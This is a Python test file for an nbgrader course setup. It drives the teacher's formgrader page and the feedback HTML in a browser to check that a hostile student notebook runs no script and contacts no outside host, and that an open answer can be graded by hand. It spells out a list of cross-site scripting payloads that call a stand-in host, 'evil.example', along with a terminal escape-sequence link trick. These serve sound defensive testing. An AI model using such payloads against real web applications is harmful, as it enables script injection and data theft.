"""The teacher's browser: formgrader on a submission full of tricks runs nothing and calls nobody, and an open
answer is graded by hand there."""

import os
import re

import nbformat
import pytest
from playwright.sync_api import expect

from grader.jail import doctor
from grader.tests import pages, school
from grader.tests.attacks import LESSON
from grader.tests.grading.test_rebuild import EVIL
from grader.tests.pages import SECONDS

WALLS = doctor.walls()
pytestmark = pytest.mark.skipif(not WALLS.ok, reason=f"no walls on this machine: {WALLS.why}")
OPEN = "lower_loss_fewer_right"

PWN = "window.pwned = 1; fetch('http://evil.example/')"
TRICKS = [
    f"<script>{PWN}</script>",
    f'<img src=http://evil.example/x.png onerror="{PWN}">',
    f'</pre></div><svg onload="{PWN}">',
    f"{{{{ '</script><script>{PWN}</script>' }}}}",
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    "<meta http-equiv=refresh content='0;http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    f"[click](javascript:{PWN})",
    "![x](http://evil.example/x.png)",
    f"$\\href{{javascript:{PWN}}}{{x}}$",
    f"</textarea></style></title><script>{PWN}</script>",
    "<base href=http://evil.example/>",
    f'<form action="javascript:{PWN}"><button autofocus onfocus="{PWN}">x</button></form>',
    "<style>@import 'http://evil.example/x.css';</style>",
]
SHOWS = f"""
from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display, IFrame, Image
TRICKS = {TRICKS!r}
for trick in TRICKS:
    print(trick, "\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07 \\x1b[31mred")
    for kind in ("text/html", "image/svg+xml", "application/javascript", "text/markdown", "text/latex", "application/vnd.jupyter.widget-view+json"):
        display({{kind: trick, "text/plain": trick}}, raw=True)
display(Javascript({PWN!r}), HTML(TRICKS[0]), SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"), IFrame("http://evil.example/", 9, 9), Image(url="http://evil.example/x.png"))
"""
RAISES = f"""
class Named(Exception): pass
Named.__name__ = Named.__qualname__ = {TRICKS[0]!r}
raise Named({" ".join(TRICKS)!r})
"""
FAILS = f"def bce(p, y, reduction='mean'):\n    raise ValueError({' '.join(TRICKS)!r})"


def full_of_tricks():
    nb = school.answered(
        LESSON,
        school.solution_cells(LESSON) | {"bce": FAILS + "\n# " + TRICKS[0]},
        open_answer="\n\n".join(["Read this."] + TRICKS + EVIL),
    )
    nb.cells += [
        nbformat.v4.new_markdown_cell("\n\n".join(TRICKS + EVIL)),
        nbformat.v4.new_markdown_cell("```mermaid\ngraph TD; A-->B\n```"),
        nbformat.v4.new_raw_cell(TRICKS[0]),
        nbformat.v4.new_code_cell(
            SHOWS, outputs=[nbformat.v4.new_output("display_data", data={"text/html": TRICKS[0]})]
        ),
        nbformat.v4.new_code_cell(RAISES),
        nbformat.v4.new_code_cell("'''" + "\n".join(TRICKS) + "'''"),
    ]
    return nb


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A course with an honest submission and one full of tricks, the honest one graded already."""
    folder = school.make(tmp_path_factory.mktemp("course"), LESSON)
    school.nbgrader(folder, "generate_assignment", LESSON, "--create")
    school.submit(
        folder,
        "ann",
        LESSON,
        school.answered(LESSON, open_answer="The loss weighs every patient by how sure the model was."),
    )
    school.submit(folder, "eve", LESSON, full_of_tricks())
    (folder / "submitted" / "eve" / LESSON / "evil.html").write_text(TRICKS[0])
    school.nbgrader(folder, "autograde", LESSON, "--create", "--student", "ann")
    return folder


@pytest.fixture(scope="module")
def server(folder, tmp_path_factory):
    """A Jupyter server with nbgrader's extensions in the course's folder, as a teacher starts it: its address."""
    command = [
        "jupyter",
        "server",
        "--allow-root",
        "--ServerApp.open_browser=False",
        "--ip=127.0.0.1",
        "--ServerApp.port_retries=0",
        "--IdentityProvider.token=",
    ]
    with pages.serving(
        command,
        folder,
        tmp_path_factory.mktemp("home"),
        r"http://127\.0\.0\.1:\d+(?=/)",
        PATH=f"{school.BIN}:{os.environ['PATH']}",
    ) as match:
        yield match[0]


@pytest.fixture
def page(chromium):
    """A page that notes whom it calls, and what it is asked. Nothing leaves this machine."""
    context = chromium.new_context(viewport={"width": 1200, "height": 900})
    page = context.new_page()
    page.called, page.asked = set(), []
    page.on("request", lambda r: page.called.add(r.url))
    page.on("dialog", lambda d: (page.asked.append(d.message), d.dismiss()))
    context.route(
        lambda url: not url.startswith(("http://127.0.0.1:", "data:", "file:")), lambda route: route.abort()
    )
    page.set_default_timeout(SECONDS * 1000)
    yield page
    context.close()


def outside(page):
    return {
        url.split("?")[0]
        for url in page.called
        if not url.startswith(("http://127.0.0.1:", "data:", "file:"))
    }


def submission(folder, student):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{folder}/gradebook.db") as gradebook:
        return gradebook.find_submission_notebook(LESSON, LESSON, student).id


def links(page):
    return {
        href
        for href in page.eval_on_selector_all("a", "all => all.map(a => a.getAttribute('href'))")
        if href and not href.startswith("#")
    }


def formulas(page):
    """How many formulas MathJax has set, when it has done all that there are."""
    page.wait_for_function(
        "() => window.MathJax && MathJax.isReady && !MathJax.Hub.queue.pending && !MathJax.Hub.queue.running"
    )
    return page.locator("#notebook-container .MathJax").count()


def is_harmless(page, known=frozenset()):
    """Nothing ran, nobody was called, and there is nothing to click but what is `known`."""
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.pwned") is None and not page.asked
    assert not outside(page)
    assert links(page) <= known, links(page) - known
    body = "#notebook-container" if page.locator("#notebook-container").count() else "main"
    for what in (
        "script[src*=evil]",
        f"{body} script:not([type*=mathjax], [type^='math/'])",
        f"{body} iframe",
        f"{body} object",
        f"{body} form",
        f"{body} svg",
        f"{body} style",
        "base",
        f"{body} meta",
        f"{body} link",
    ):
        assert page.locator(what).count() == 0, what
    assert all(
        src.startswith("data:image/png;base64,")
        for src in page.eval_on_selector_all(f"{body} img", "all => all.map(i => i.getAttribute('src'))")
    )
    handlers = page.eval_on_selector_all(
        f"{body} *", "all => all.flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on')))"
    )
    assert not handlers


def test_the_button_grades_and_the_page_is_harmless(folder, server, page, tmp_path):
    page.goto(f"{server}/formgrader/submissions/{submission(folder, 'ann')}/")
    page.wait_for_load_state("networkidle")
    assert formulas(page) > 5 and not outside(page)  # without the internet, too
    page.screenshot(path=tmp_path / "formulas.png", full_page=True)
    # nbgrader's own, and the course's
    known = {link.replace(submission(folder, "ann"), "…") for link in links(page)}
    assert not any("evil" in url or url.startswith("javascript") for url in known)

    page.goto(f"{server}/formgrader/manage_submissions/{LESSON}")
    row = page.locator("tr", has=page.locator("td", has_text=re.compile(r"^\s*eve\s*$")))
    row.locator(".autograde a").click()
    page.wait_for_function("() => document.querySelector('.modal.in .modal-title')")
    assert "Success" in page.locator(".modal.in .modal-title").inner_text(), page.locator(
        ".modal.in"
    ).inner_text()
    graded = school.grades(folder, LESSON)
    assert (
        graded["eve"]["test_bce"] == 0
        and graded["eve"]["test_bce_grad"] == graded["ann"]["test_bce_grad"] > 0
    )

    page.called.clear()
    page.goto(f"{server}/formgrader/submissions/{submission(folder, 'eve')}/")
    assert formulas(page) > 5
    is_harmless(page, {link.replace("…", submission(folder, "eve")).replace("ann", "eve") for link in known})
    text = page.locator("#notebook-container").first.inner_text()
    # all is there to be read
    assert "Read this." in text and "bce: stopped with an error" in text and "onerror" in text
    page.screenshot(path=tmp_path / "formgrader.png", full_page=True)
    beside = page.request.get(f"{server}/formgrader/submissions/{submission(folder, 'eve')}/evil.html")
    assert beside.status == 404 or TRICKS[0] not in beside.text()


def test_an_open_answer_is_graded_by_hand(folder, server, page, tmp_path):
    comment = "Say what a <b>sure</b> mistake costs."
    url = f"{server}/formgrader/submissions/{submission(folder, 'ann')}/"
    page.goto(url)
    page.wait_for_load_state("networkidle")
    score, box = page.locator(f"input#{OPEN}"), page.locator(f"textarea#{OPEN}-comment")
    expect(box).to_be_visible()
    score.fill("1.5")
    score.press("Tab")
    box.fill(comment)
    with page.expect_response(lambda r: "/api/comment/" in r.url and r.request.method == "PUT"):
        box.blur()
    page.reload()
    page.wait_for_load_state("networkidle")
    expect(page.locator(f"input#{OPEN}")).to_have_value("1.5")
    expect(page.locator(f"textarea#{OPEN}-comment")).to_have_value(comment)
    page.screenshot(path=tmp_path / "by-hand.png", full_page=True)
    assert school.grades(folder, LESSON)["ann"][OPEN] == 1.5

    page.goto(f"{server}/formgrader/gradebook/{LESSON}/{LESSON}")
    expect(page.locator("tbody")).to_contain_text("14.5")


@pytest.mark.parametrize("student", ["ann", "eve"])
def test_feedback_is_harmless_and_shows_what_the_teacher_wrote(folder, server, page, student, tmp_path):
    if not (folder / "feedback" / student).exists():
        school.nbgrader(folder, "generate_feedback", LESSON)
    page.goto((folder / "feedback" / student / LESSON / f"{LESSON}.html").as_uri())
    is_harmless(page)
    if student == "ann":
        expect(page.locator("main")).to_contain_text("Say what a")
        expect(page.locator("main")).to_contain_text("1.5 of")
    else:
        expect(page.locator("main")).to_contain_text("Read this.")
    page.screenshot(path=tmp_path / "feedback.png", full_page=True)
